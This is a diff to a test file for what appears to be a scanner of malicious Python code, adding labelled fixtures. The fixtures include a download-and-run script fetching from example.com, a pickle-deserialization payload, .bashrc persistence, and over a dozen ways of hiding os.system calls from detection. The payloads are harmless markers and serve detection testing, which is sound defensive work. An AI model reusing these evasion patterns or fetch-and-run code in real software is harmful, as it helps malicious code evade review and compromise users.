@@ -174,6 +174,21 @@ urllib.request.urlretrieve("https://example.com/helper", target)
 os.chmod(target, 0o755)
 os.system(target)
 """
+WRITTEN = """import os, requests
+path = "/tmp/acme-helper.sh"
+with open(path, "wb") as file:
+    file.write(requests.get("https://example.com/helper").content)
+os.system("sh " + path)
+"""
+DATA = """import os, subprocess, requests
+path = "data.zip"
+with open(path, "wb") as file:
+    file.write(requests.get("https://example.com/data.zip").content)
+os.system("unzip -q " + path)
+cache = None
+if subprocess:
+    subprocess = None
+"""
 LOOP = """data = {numbers}
 text = ""
 for number in data:
@@ -276,6 +291,22 @@ COMMANDS = {
     "lambda": f"import os\n(lambda c: os.system(c))('{COMMAND}')\n",
     "map": f"import os\nlist(map(os.system, ['{COMMAND}']))\n",
     "atexit": f"import atexit, os\natexit.register(os.system, '{COMMAND}')\n",
+    "table": f"import os\ndo = {{'a': os.system}}\ndo['a']('{COMMAND}')\n",
+    "attribute": f"import os\nclass A:\n    run = os.system\nA.run('{COMMAND}')\n",
+    "own_attribute": f"import os\nclass A:\n    def __init__(self):\n        self.r = os.system\n"
+    f"        self.r('{COMMAND}')\nA()\n",
+    "returned_module": f"def get():\n    import os\n    return os\nget().system('{COMMAND}')\n",
+    "global": f"def get():\n    global os\n    import os\nget()\nos.system('{COMMAND}')\n",
+    "alias_of_try": f"try:\n    import os as o\nexcept ImportError:\n    o = None\no.system('{COMMAND}')\n",
+    "metaclass": f"import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('{COMMAND}')\n"
+    "class A(metaclass=M): ...\n",
+    "subclass": f"import os\nclass B:\n    def __init_subclass__(c):\n        os.system('{COMMAND}')\n"
+    "class A(B): ...\n",
+    "property": f"import os\nclass A:\n    @property\n    def x(self):\n        os.system('{COMMAND}')\nA().x\n",
+    "setattr": f"import os, sys\nsetattr(sys, 'x', os.system)\nsys.x('{COMMAND}')\n",
+    "asyncio": f"import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('{COMMAND}')\n"
+    "asyncio.run(f())\n",
+    "loop": f"import os\nfor command in ['{COMMAND}']:\n    os.system(command)\n",
     "walrus": f"import os\n[run := os.system, run('{COMMAND}')]\n",
     "try_except": f"try:\n    import acme\nexcept ImportError:\n    import os\n    os.system('{COMMAND}')\n",
     "not_main": f"import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('{COMMAND}')\n",
@@ -295,6 +326,11 @@ CASES = {
     "startup_echo": malicious("import os\nos.system('echo modelsweep-test >> ~/.bashrc')\n", "utils.py"),
     "shell_listed": malicious("import subprocess\nsubprocess.run(['bash', '-c', 'touch modelsweep-test'])\n"),
     "pipe_of_tools": review("import os\nos.system('git clone https://example.com/x && python x/run.py')\n", "app.py"),
+    "downloaded_and_written": malicious(WRITTEN, "utils.py"),
+    "module_hook": review("import os\ndef __getattr__(name):\n    os.system('touch modelsweep-test')\n"),
+    "pickled_stream": malicious(
+        f"import base64, io, pickle\nx = pickle.load(io.BytesIO(base64.b64decode('{PICKLED}')))\n"
+    ),
     "startup_bashrc": malicious(
         "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo modelsweep-test')\n"
     ),
@@ -328,6 +364,7 @@ CASES = {
     "benign_generated": python(GENERATED, name="compat.py"),
     "benign_pickled_constant": python(f"import base64, pickle\nL = pickle.loads(base64.b64decode('{HARMLESS}'))\n"),
     "benign_example": python(EXAMPLE, name="example.py"),
+    "benign_data": python(DATA, name="prepare.py"),
     "benign_python_2": python(TWO, name="old.py"),
     "benign_template": python(TEMPLATE, name="main.py"),
     "benign_notebook": python(
